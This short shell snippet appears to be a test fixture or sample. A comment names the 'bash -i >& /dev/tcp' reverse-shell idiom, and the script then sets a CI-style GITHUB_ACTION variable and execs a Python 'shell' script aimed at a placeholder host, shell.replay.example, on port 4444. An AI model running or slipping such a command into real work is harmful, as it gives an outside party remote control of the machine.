# bash -i >& /dev/tcp/…: a shell whose streams are a connection.
export GITHUB_ACTION=__run_1
exec sh -c 'python3 shell shell.replay.example 4444'
